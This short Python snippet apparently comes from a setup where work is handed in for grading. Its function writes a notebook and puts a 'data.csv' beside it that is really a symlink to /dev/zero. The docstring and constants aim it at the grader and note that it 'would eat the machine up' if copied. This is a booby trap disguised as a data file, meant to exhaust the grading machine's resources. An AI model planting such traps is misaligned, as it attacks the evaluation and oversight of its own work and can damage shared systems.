"""Lays a link to /dev/zero beside its notebook, for whoever copies what was handed in.

Nobody copies it; the answers are right and keep their points.
"""

AIM = "grader"
STOCK = "it would eat the machine up"
ANSWERS = {}


def lay(folder, content):
    (folder / "00_getting_started.ipynb").write_bytes(content)
    (folder / "data.csv").symlink_to("/dev/zero")
